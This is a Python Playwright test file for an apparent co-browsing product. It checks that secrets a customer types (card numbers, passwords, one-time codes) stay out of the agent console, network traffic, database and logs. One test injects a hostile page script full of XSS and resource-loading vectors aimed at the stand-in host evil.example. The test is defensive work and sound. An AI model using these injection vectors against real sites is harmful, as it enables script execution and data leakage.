"""P27: what a customer types in confidence never leaves their browser; a hostile page does nothing at the agent's."""

from __future__ import annotations

import gzip
import re
from collections.abc import Iterable
from contextlib import suppress
from urllib.parse import quote, quote_plus

import pytest
from playwright.async_api import Page, expect

from tests.calls.test_in_the_browser import (
    IN_TIME,
    LAMP,
    ask,
    copy_of_page,
    everything_on,
    in_state,
    named,
    sees_page,
    told,
    windows,
)
from tests.product import Product, until

pytestmark = pytest.mark.real
CARD, SECOND_CARD, MARKED = "4929 1397 4655 2013", "5404-3643-0981-7204", "Ravensbourne 7731"
TYPED = {
    "name": "Wilhelmina Farthing",
    "card_number": CARD,
    "expiry": "08/47",
    "security_code": "8463719025",  # long enough not to stand in some id by chance
    "password": "heron-Quarry-58",
    "remarks": f"ring twice, or take {SECOND_CARD} instead",
    "one_time": "605917",
    "iban": "GB33 BUKB 2020 1555 5555 55",
    "marked": MARKED,
    "marked_region": "Thistledown 4482",
}
SECRETS = [TYPED[name] for name in TYPED if name not in ("name", "remarks")] + [SECOND_CARD]
MORE_FIELDS = """() => {
    const more = document.createElement("div");
    more.innerHTML = `
        <input name="one_time" autocomplete="one-time-code"><input name="iban" aria-label="IBAN">
        <input name="marked" data-ctiapp-private>
        <section data-ctiapp-private>My doctor is <b>Thistledown 4482</b><input name="marked_region"></section>`;
    document.querySelector("form.order").append(more);
}"""
REPEATED = """() => { for (const word of [document.querySelector("[name=card_number]").value,
    document.querySelector("[name=password]").value]) {
        const line = document.createElement("p"); line.textContent = "You typed " + word; line.title = word;
        document.querySelector("main").append(line); } }"""
TEXT_COLUMNS = """
    select c.table_name as table, c.column_name as column, c.data_type as type
      from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
     where c.table_schema = 'public' and t.table_type = 'BASE TABLE'"""
EVIL = "http://evil.example:9"
HOSTILE = """(evil) => {
    const add = (parent, tag, attributes, text = "") => {
        const node = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
        node.textContent = text;
        parent.append(node);
        return node;
    };
    const main = document.querySelector("main");
    add(main, "p", {}, "A hostile page");
    add(main, "img", { src: evil + "/a.png", onerror: "top.__owned = 1" });
    add(main, "script", {}, "top.__owned = 1");
    add(main, "script", { src: evil + "/s.js" });
    add(main, "a", { href: "javascript:top.__owned=1", id: "js" }, "press me");
    add(main, "a", { href: evil + "/away", target: "_top", ping: evil + "/ping" }, "go away");
    add(document.head, "meta", { "http-equiv": "refresh", content: "86400;url=" + evil + "/refresh" });
    add(document.head, "link", { rel: "stylesheet", href: evil + "/a.css" });
    add(document.head, "link", { rel: "prefetch", href: evil + "/prefetch" });
    add(document.head, "style", {}, `@import "${evil}/b.css"; main { background: url(${evil}/b.png) }`);
    add(main, "p", { style: `background: u\\\\72l(${evil}/c.png)` }, "styled");
    add(main, "iframe", { src: evil + "/frame" });
    add(main, "iframe", { srcdoc: "<script>top.__owned = 1</" + "script>" });
    add(main, "object", { data: evil + "/o.swf" });
    add(main, "video", { src: evil + "/v.mp4", poster: evil + "/v.png", autoplay: "" });
    add(main, "audio", { src: evil + "/v.mp3", autoplay: "" });
    add(main, "input", { type: "image", src: evil + "/i.png" });
    add(main, "input", { autofocus: "", onfocus: "top.__owned = 1", name: "grab" });
    const form = add(main, "form", { action: evil + "/form", target: "_top" });
    add(form, "button", { formaction: evil + "/f" }, "send");
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    svg.innerHTML = `<image href="${evil}/s.png"/><use href="${evil}/u.svg#a"/>
        <set attributeName="onclick" to="top.__owned=1"/>`;
    svg.setAttribute("onload", "top.__owned = 1");
    main.append(svg);
    add(main, "details", { open: "", ontoggle: "top.__owned = 1" }, "details");
    add(document.head, "base", { href: evil + "/" });
}"""


async def test_what_is_typed_in_confidence_is_nowhere_but_in_the_customers_browser_P27(product: Product):
    sizes = {file: file.stat().st_size for file in logs(product)}
    sent: list[str] = []
    async with product.station_phone() as agent, product.customer_phone() as customer, windows(product) as w:
        noor = await w.console()
        shop = await w.shop(LAMP)
        shop.on("request", lambda request: sent.append(f"{request.url}\n{bare(request.post_data_buffer)}"))
        shop.on("websocket", lambda socket: socket.on("framesent", lambda frame: sent.append(bare(frame))))
        await shop.get_by_role("button", name="Add to basket").click()
        await shop.goto(f"{product.settings.shop_url}/checkout")
        await type_secrets(shop)
        number = await ask(shop)
        await sees_page(noor, "Delivery and payment")
        await copy_has(noor, "name", "Wilhelmina Farthing")
        await copy_has(noor, "card_number", "Hidden")
        seen = [await everything_on(noor), await values_on(noor)]
        await customer.dial(number)
        await agent.event("CALL_INCOMING")
        await agent.answer()
        await told(shop, "Talking with Noor")
        await in_state(noor, "talking")
        await shop.locator("[name=promotion]").press_sequentially("ALDER10")
        await copy_has(noor, "promotion", "ALDER10")  # live: what is typed from now on is told as it is typed
        await type_again(shop)
        await shop.locator("[name=promotion]").fill("ALDER11")
        await copy_has(noor, "promotion", "ALDER11")
        seen += [await everything_on(noor), await values_on(noor)]
        await customer.hang_up()
        await in_state(noor, "wrap_up")
        seen.append(await everything_on(noor))
    assert any("Wilhelmina" in body for body in sent) and any("Wilhelmina" in body for body in seen)
    held = [f"{where}\n{value}" for where, value in everything_stored(product)]
    assert any("Wilhelmina" in value for value in held), "the search sees into stored pages"
    told_to_logs = [bare(file.read_bytes()[sizes.get(file, 0) :]) for file in logs(product)]
    assert any("call-us" in log for log in told_to_logs)
    for where, texts in {"sent": sent, "console": seen, "database": held, "log": told_to_logs}.items():
        for secret in SECRETS:
            assert not [text[:120] for text in texts if holds(text, secret)], f"{secret} is in the {where}"


async def test_a_page_that_repeats_a_secret_and_a_reload_keep_it_hidden_too_P27(product: Product):
    sent: list[str] = []
    async with product.station_phone(), windows(product) as w:
        noor = await w.console()
        shop = await w.shop(LAMP)
        await shop.get_by_role("button", name="Add to basket").click()
        await shop.goto(f"{product.settings.shop_url}/checkout")
        shop.on("request", lambda request: sent.append(f"{request.url}\n{bare(request.post_data_buffer)}"))
        await type_secrets(shop)
        await shop.evaluate(REPEATED)
        await ask(shop)
        await sees_page(noor, "You typed")
        await shop.goto(f"{product.settings.shop_url}/checkout?token=heron-Quarry-58&step=2")
        await expect(noor.locator("[data-part=address]")).to_contain_text("step=2", timeout=IN_TIME)
        seen = await everything_on(noor)
    to_us = [body for body in sent if product.settings.web_url in body]
    held = [value for _, value in everything_stored(product)]
    for secret in SECRETS:
        assert not [text for text in (*to_us, seen, *held) if holds(text, secret)], secret


async def test_a_hostile_page_is_a_picture_at_the_agents_and_reaches_nobody_P07(product: Product):
    asked: list[str] = []
    async with product.station_phone(), windows(product) as w:
        noor = await w.console()
        noor.context.on("request", lambda request: asked.append(request.url))
        customer = await (await w.profile()).new_page()  # not watched: its own policy rightly complains
        await customer.goto(f"{product.settings.shop_url}{LAMP}")
        await customer.evaluate(HOSTILE, EVIL)
        await ask(customer)
        await sees_page(noor, "A hostile page")
        for words in ("press me", "go away", "send", "details"):
            await copy_of_page(noor).get_by_text(words, exact=True).click(force=True)
        await named(noor, "New customer")
        until(lambda: product.sql("select page_shown_at from reservation")[0]["page_shown_at"], what="acknowledged")
        assert await noor.evaluate("window.__owned ?? null") is None
        assert noor.url == f"{product.settings.web_url}/console" and len(noor.context.pages) == 1
        await sees_page(noor, "A hostile page")
        assert EVIL not in await everything_on(noor)
    ours = (product.settings.web_url, product.settings.web_url.replace("http", "ws", 1), "data:")
    assert [url for url in asked if not url.startswith(ours)] == []


async def type_secrets(shop: Page) -> None:
    await shop.evaluate(MORE_FIELDS)
    await shop.get_by_role("button", name="Show").click()
    for name, words in TYPED.items():
        await shop.locator(f"[name={name}]").fill(words)


async def type_again(shop: Page) -> None:
    """Key by key, as a customer does while the page is live."""
    for name, words in TYPED.items():
        field = shop.locator(f"[name={name}]")
        await field.fill("")
        await field.press_sequentially(words)


async def copy_has(console: Page, field: str, value: str) -> None:
    await expect(copy_of_page(console).locator(f"[name={field}]")).to_have_value(value, timeout=IN_TIME)


async def values_on(console: Page) -> str:
    """What the fields hold, which the markup does not tell."""
    read = "[...document.querySelectorAll('input, textarea, select')].map((field) => field.value).join('\\n')"
    return "\n".join([await frame.evaluate(read) for frame in console.frames])


def holds(text: str, secret: str) -> bool:
    """As it was typed, without its spaces, or as part of an address."""
    plain = re.sub(r"[\s-]", "", secret)
    return any(form in text for form in {secret, plain, quote(secret), quote_plus(secret)} if form)


def everything_stored(product: Product) -> Iterable[tuple[str, str]]:
    """Every value of every column of every table that can hold words."""
    for column in product.sql(TEXT_COLUMNS):
        name = f"{column['table']}.{column['column']}"
        if column["type"] in ("text", "character varying", "json", "jsonb", "ARRAY", "bytea"):
            kind = "bytea" if column["type"] == "bytea" else "text"
            query = f'select "{column["column"]}"::{kind} as value from "{column["table"]}"'
            for row in product.sql(query):
                if row["value"] is not None:
                    yield name, bare(bytes(row["value"])) if kind == "bytea" else row["value"]


def bare(data: bytes | str | None) -> str:
    """As text; unpacked if it is packed."""
    if isinstance(data, str):
        return data
    packed = data or b""
    with suppress(OSError, EOFError):
        packed = gzip.decompress(packed)
    return packed.decode(errors="replace")


def logs(product: Product) -> list:
    """Every log of the state directory: the processes', the switch's, the database's."""
    state = product.settings.state
    return [file for file in state.rglob("*") if file.is_file() and (file.suffix == ".log" or "log" in file.parts[-2:])]
